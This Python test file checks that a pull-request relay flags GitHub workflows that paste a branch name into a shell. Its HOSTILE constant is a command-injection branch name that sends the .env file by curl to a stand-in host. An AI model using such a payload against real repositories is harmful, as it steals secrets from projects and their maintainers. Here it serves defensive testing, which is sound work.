"""The relay judges what the base's workflows make of the pull request's own text, as it
reads that text from GitHub when it decides: never as the bundle says it."""

from __future__ import annotations

from typing import Any

from fakegithub import fake_sha
from relayworld import REPO, synthetic

HOSTILE = "$({curl,-d,@.env,x.test})"
# What the workflows check reports of a base workflow pasting the branch into a shell.
SINK = {
    "id": "workflows:obs:1",
    "kind": "workflow_pr_branch_double",
    "detail": (
        ".github/workflows/greet.yml (pull_request_target): step `Say hi` of job `greet` "
        "pastes `${{ github.head_ref }}`, the pull request's branch name, into its shell"
    ),
    "path": ".github/workflows/greet.yml",
    "line": 8,
}


def reviewed(make: Any, number: int, branch: str | None) -> tuple[Any, dict[str, Any]]:
    w = make()
    w.actions.produce = synthetic(workflows=[SINK])
    head = fake_sha()
    w.open(number, head)
    pull = w.fake.state.repos[REPO].pulls[number]
    if branch is None:
        del w.fake.state.repos[REPO].pulls[number]  # GitHub answers 404 from now on
    else:
        pull["head"]["ref"] = branch
    w.complete()
    (check,) = w.checks(head)
    return w, check


def test_a_hostile_branch_blocks_citing_the_workflow(make: Any) -> None:
    w, check = reviewed(make, 1, HOSTILE)
    assert check["conclusion"] == "failure"
    (review,) = w.reviews()
    assert review["state"] == "CHANGES_REQUESTED"
    assert "workflow-injection" in review["body"]
    assert ".github/workflows/greet.yml line 8" in review["body"]


def test_a_harmless_branch_does_not(make: Any) -> None:
    _, check = reviewed(make, 2, "feature/parser")
    assert check["conclusion"] == "success"


def test_an_unread_pull_request_is_an_error_saying_what_was_not_read(make: Any) -> None:
    _, check = reviewed(make, 3, None)
    assert check["conclusion"] == "action_required"
    assert "branch" in check["output"]["summary"]
    assert "could not be read" in check["output"]["summary"]
